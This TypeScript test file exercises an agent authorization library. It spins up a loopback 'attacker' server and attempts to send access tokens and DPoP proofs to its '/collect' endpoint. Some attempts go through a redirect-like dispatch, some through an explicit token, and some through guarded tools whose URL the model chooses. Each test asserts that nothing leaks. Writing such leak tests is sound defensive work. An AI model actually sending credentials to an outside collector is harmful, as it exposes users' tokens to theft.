/**
 * Where an agent's tokens, proofs and clock corrections may go, on the devkit's real authorization
 * server and treasury API, with a real loopback server playing a hostile origin:
 * - agent.dispatcher() never gives a token or a proof to another origin (a redirect hop);
 * - a resource server's far-off Date moves neither the authorization server's clock nor its own
 *   beyond the cap;
 * - agent.fetch and a guarded tool's fetch refuse to send a token to another origin than its resource.
 */
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Agent as UndiciAgent, fetch as undiciFetch, type Dispatcher } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { startDevStack, TREASURY_SCOPES, type DevStack } from '@countersign/devkit';
import { TokenAudienceError } from '../packages/core/src/fetch/token-audience-error.js';
import { guardTool } from '../packages/core/src/tools/guard-tool.js';
import { createDevAgent, type DevAgent } from './helpers/dev-agent.js';

interface Seen {
  headers: IncomingHttpHeaders;
  path: string;
}

/** A loopback server that records every request and answers with `reply`. */
async function startHostile(reply: (index: number) => { status: number; headers?: Record<string, string> }) {
  const seen: Seen[] = [];
  const server = createServer((incoming, outgoing) => {
    incoming.resume();
    incoming.on('end', () => {
      seen.push({ headers: incoming.headers, path: incoming.url! });
      const { status, headers } = reply(seen.length - 1);
      outgoing.writeHead(status, { 'content-type': 'text/plain', ...headers });
      outgoing.end('hostile');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/** A dispatcher that keeps the DPoP proof and client assertion of every request the agent sends. */
function capturingDispatcher() {
  const base = new UndiciAgent();
  const sent: { origin: string; path: string; dpop?: string; assertion?: string }[] = [];
  const dispatcher = base.compose((dispatch) => (options, handler) => {
    const headers = options.headers as Record<string, string> | string[] | undefined;
    let dpop: string | undefined;
    if (Array.isArray(headers)) {
      for (let index = 0; index < headers.length; index += 2) if (String(headers[index]).toLowerCase() === 'dpop') dpop = String(headers[index + 1]);
    } else if (headers) {
      for (const [name, value] of Object.entries(headers)) if (name.toLowerCase() === 'dpop') dpop = String(value);
    }
    const assertion = typeof options.body === 'string' ? (new URLSearchParams(options.body).get('client_assertion') ?? undefined) : undefined;
    sent.push({ origin: String(options.origin), path: options.path, dpop, assertion });
    return dispatch(options, handler);
  });
  return { dispatcher: dispatcher as Dispatcher, sent, close: () => base.close() };
}

const iatOf = (jwt: string | undefined) => JSON.parse(Buffer.from(String(jwt).split('.')[1]!, 'base64url').toString()).iat as number;

let stack: DevStack;
const cleanups: (() => Promise<void>)[] = [];
beforeAll(async () => {
  stack = await startDevStack({ port: 0, toolApiPort: 0, pollInterval: 1 });
});
afterAll(async () => {
  for (const cleanup of cleanups) await cleanup();
  await stack?.close();
});

async function newAgent(scopes: string[] = ['accounts:read'], dispatcher?: Dispatcher): Promise<Omit<DevAgent, 'stack'>> {
  const created = await createDevAgent(stack, scopes, dispatcher ? { dispatcher } : {});
  cleanups.push(created.close);
  return created;
}

async function hostile(reply: Parameters<typeof startHostile>[0] = () => ({ status: 200 })) {
  const started = await startHostile(reply);
  cleanups.push(started.close);
  return started;
}

describe('M1: agent.dispatcher() serves one origin', () => {
  it.each([
    ['with a resource', true],
    ['without a resource (the first request’s origin)', false],
  ])('%s: a request to another origin carries no token or proof and asks for no token', async (_, withResource) => {
    const { agent, counter } = await newAgent();
    const attacker = await hostile();
    const dispatcher = agent.dispatcher({ scope: 'accounts:read', ...(withResource ? { resource: stack.toolApiUrl } : {}) });
    expect((await undiciFetch(`${stack.toolApiUrl}/accounts`, { dispatcher })).status).toBe(200);
    const tokenRequests = counter.count(stack.issuer, '/token');
    // What a redirect hop followed by fetch or undici's redirect interceptor is: a new dispatch to the other origin.
    expect(await (await undiciFetch(`${attacker.url}/collect`, { dispatcher })).text()).toBe('hostile');
    expect(attacker.seen).toHaveLength(1);
    expect(attacker.seen[0]!.headers.authorization).toBeUndefined();
    expect(attacker.seen[0]!.headers.dpop).toBeUndefined();
    expect(counter.count(stack.issuer, '/token')).toBe(tokenRequests);
  });
});

describe('M2: clock corrections are per origin and capped', () => {
  it('a resource server’s Date ten years ahead changes nothing: the proof error is thrown and later proofs and assertions carry the real time', async () => {
    const capture = capturingDispatcher();
    cleanups.push(capture.close);
    const { agent } = await newAgent(['accounts:read'], capture.dispatcher);
    const rogue = await hostile(() => ({
      status: 401,
      headers: {
        'www-authenticate': 'DPoP error="invalid_dpop_proof", error_description="DPoP proof iat is not recent enough"',
        date: new Date(Date.now() + 3650 * 86_400_000).toUTCString(),
      },
    }));
    // A token without a resource (the caller's own choice) may go anywhere; the rogue server refuses its proof.
    const { resource: _resource, ...bare } = await agent.getToken({ resource: stack.toolApiUrl, scope: 'accounts:read' });
    await expect(agent.fetch(`${rogue.url}/x`, { token: bare })).rejects.toMatchObject({ code: 'ERR_RESOURCE_CHALLENGE', error: 'invalid_dpop_proof' });
    expect(rogue.seen).toHaveLength(1);

    // A new token request (another scope set) and a resource request: real time in every proof and assertion.
    await agent.getToken({ resource: stack.toolApiUrl });
    expect((await agent.fetch(`${stack.toolApiUrl}/accounts`, { scope: 'accounts:read' })).status).toBe(200);
    const now = Date.now() / 1000;
    const afterRogue = capture.sent.slice(capture.sent.findIndex((sent) => sent.origin.includes(new URL(rogue.url).host)) + 1);
    const times = afterRogue.flatMap((sent) => [sent.dpop, sent.assertion]).filter((jwt): jwt is string => jwt !== undefined).map(iatOf);
    expect(times.length).toBeGreaterThanOrEqual(3);
    for (const iat of times) expect(Math.abs(iat - now)).toBeLessThan(30);
  });

  it('a resource server two minutes ahead corrects its own origin once, and no other', async () => {
    const capture = capturingDispatcher();
    cleanups.push(capture.close);
    const { agent } = await newAgent(['accounts:read'], capture.dispatcher);
    const ahead = await hostile((index) =>
      index === 0
        ? {
            status: 401,
            headers: {
              'www-authenticate': 'DPoP error="invalid_dpop_proof", error_description="DPoP proof iat is not recent enough"',
              date: new Date(Date.now() + 120_000).toUTCString(),
            },
          }
        : { status: 200 },
    );
    const { resource: _resource, ...bare } = await agent.getToken({ resource: stack.toolApiUrl, scope: 'accounts:read' });
    expect((await agent.fetch(`${ahead.url}/x`, { token: bare })).status).toBe(200);
    expect(ahead.seen).toHaveLength(2);
    const [refused, retried] = ahead.seen.map((seen) => iatOf(String(seen.headers.dpop)));
    expect(retried! - refused!).toBeGreaterThanOrEqual(118);
    expect((await agent.fetch(`${stack.toolApiUrl}/accounts`, { scope: 'accounts:read' })).status).toBe(200);
    const toolApiProof = capture.sent.filter((sent) => sent.origin === stack.toolApiUrl && sent.dpop).at(-1)!;
    expect(Math.abs(iatOf(toolApiProof.dpop) - Date.now() / 1000)).toBeLessThan(30);
  });
});

describe('L4: a token goes only to its resource’s origin', () => {
  it('agent.fetch refuses an explicit token or resource of another origin, before any request', async () => {
    const { agent, counter } = await newAgent();
    const attacker = await hostile();
    const token = await agent.getToken({ resource: stack.toolApiUrl, scope: 'accounts:read' });
    const sent = counter.seen.length;
    const byToken = await agent.fetch(`${attacker.url}/collect`, { token }).catch((caught: unknown) => caught);
    expect(byToken).toBeInstanceOf(TokenAudienceError);
    expect(byToken).toMatchObject({ code: 'ERR_TOKEN_AUDIENCE', resource: stack.toolApiUrl, origin: attacker.url });
    expect((byToken as Error).message).not.toContain(token.accessToken);
    await expect(agent.fetch(`${attacker.url}/collect`, { resource: stack.toolApiUrl, scope: 'accounts:read' })).rejects.toBeInstanceOf(TokenAudienceError);
    expect(attacker.seen).toHaveLength(0);
    expect(counter.seen.length).toBe(sent);
  });

  it('a guarded tool whose URL comes from the model cannot send its routine or action token elsewhere', async () => {
    const { agent } = await newAgent([...TREASURY_SCOPES]);
    const attacker = await hostile();
    const fetchFromArgs = async (args: { url: string }, context: { fetch: (url: string, init?: RequestInit) => Promise<Response> }) =>
      (await context.fetch(args.url, { method: 'POST', body: '{}' })).status;
    const read = guardTool(agent, {
      name: 'read_url',
      description: 'Reads a URL the model chose',
      schema: z.object({ url: z.string() }),
      risk: 'read',
      resource: stack.toolApiUrl,
      scope: 'accounts:read',
      execute: fetchFromArgs,
    });
    const readOutcome = await read.invoke({ url: `${attacker.url}/collect` });
    expect(readOutcome.status).toBe('failed');
    expect((readOutcome as { error: Error }).error.cause).toBeInstanceOf(TokenAudienceError);

    const act = guardTool(agent, {
      name: 'rotate_signing_key',
      description: 'Posts to a URL the model chose',
      schema: z.object({ url: z.string() }),
      risk: 'irreversible',
      resource: stack.toolApiUrl,
      scope: 'admin:keys',
      approval: { approver: 'carol', describe: () => `rotate via ${attacker.url}` },
      execute: fetchFromArgs,
    });
    const args = { url: `${attacker.url}/collect` };
    const pending = await act.invoke(args);
    expect(pending.status).toBe('approval_pending');
    const approvalId = (pending as { approvalId: string }).approvalId;
    const view = stack.approvals.list().find((candidate) => candidate.bindingMessage === `rotate via ${attacker.url}`)!;
    await stack.approvals.approve(view.id, 'carol');
    const second = stack.approvals.list().find((candidate) => candidate.id === view.id);
    if (second && second.status === 'pending') await stack.approvals.approve(view.id, 'alice');
    const outcome = await act.resume(approvalId, args, { wait: true });
    expect(outcome.status).toBe('failed');
    expect((outcome as { error: Error }).error.cause).toBeInstanceOf(TokenAudienceError);
    expect(attacker.seen).toHaveLength(0);
  });
});
